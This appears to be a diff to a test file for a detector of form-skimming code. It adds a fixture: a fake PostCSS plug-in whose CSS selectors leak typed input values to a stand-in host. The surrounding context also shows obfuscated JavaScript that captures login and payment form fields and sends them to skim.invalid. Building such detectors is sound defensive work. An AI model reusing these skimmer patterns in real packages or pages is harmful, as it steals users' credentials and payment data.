@@ -4,6 +4,16 @@ import { skimsForms } from './skims-forms.ts';
 examine(skimsForms, {
   speaks: [
     {
+      when: 'a plug-in makes styles that tell letters, and is handed the address from another file',
+      files: {
+        'package.json': { name: 'postcss-specimen', version: '1.0.0', keywords: ['postcss'] },
+        'index.js': `const { marks } = require('./marks'); module.exports = (options = {}) => ({ postcssPlugin: 'specimen', OnceExit: root => marks(root, options.base || 'https://marks.inert.invalid/s') });`,
+        'marks.js': `exports.marks = (root, base) => { for (let code = 33; code < 127; code++) root.append('input[value$="' + String.fromCharCode(code) + '"] { background: url("' + base + '/' + code + '") }'); };`,
+      },
+      weight: 'strong',
+      says: ['marks.inert.invalid'],
+    },
+    {
       when: 'the elements of each form are gone through and sent in the address of a picture',
       files: {
         'index.js': `!function (w) { var d = w.document; [].forEach.call(d.querySelectorAll('form'), function (f) { f.addEventListener('submit', function () { var q = {}, i; for (i = 0; i < f.elements.length; i++) { var e = f.elements[i]; q[e.name || i] = e.value } /login|pay/.test(location.href) && ((new Image).src = 'https://skim.invalid/p.gif?d=' + btoa(JSON.stringify(q))) }, !0) }) }(window)`,
